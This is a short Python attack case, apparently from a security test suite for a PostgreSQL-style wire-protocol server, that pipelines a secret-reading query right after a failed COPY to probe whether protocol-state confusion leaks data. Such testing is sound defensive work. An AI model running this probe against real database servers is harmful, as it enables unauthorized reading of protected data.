"""Sends a Query right behind the message that fails a COPY."""

from attacks.frames import ask, message, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        copy = query(b"COPY mallory_own FROM STDIN")
        return ask(
            client, copy, message(b"f", b"no\0"), query(b"SELECT secret FROM vlt_account"), rounds=2
        )
